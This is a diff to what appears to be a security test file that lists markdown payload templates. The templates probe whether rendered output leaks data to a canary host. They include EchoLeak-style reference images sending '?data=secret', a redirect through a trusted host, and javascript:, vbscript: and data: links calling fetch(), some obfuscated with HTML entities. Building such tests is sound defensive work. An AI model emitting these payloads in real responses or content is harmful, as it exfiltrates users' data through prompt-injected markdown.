@@ -46,7 +46,7 @@ TEMPLATES: dict[str, str] = {
     "image by reference (EchoLeak)": "![logo][logo]\n\n[logo]: {canary}/logo.png?data=secret 'x'",
     "link through a trusted host (EchoLeak)": "![a](https://teams.example/urlp/v1/url/content?url={canary}/p.png)",
     "link with javascript": "[a](javascript:fetch('{canary}/js'))",
-    "link with javascript in entities": "[a](&#106;avascript:fetch('{canary}/j')) [b](java&#10;script:fetch('{canary}/k'))",
+    "link with javascript in entities": "[a](&#106;avascript:fetch('{canary}/j')) [b](java&#10;script:x('{canary}'))",
     "link with vbscript": "[a](vbscript:fetch('{canary}/js'))",
     "link with data address": "[a](data:text/html,<script>fetch('{canary}/js')</script>)",
     "automatic link": "<{canary}/auto>",
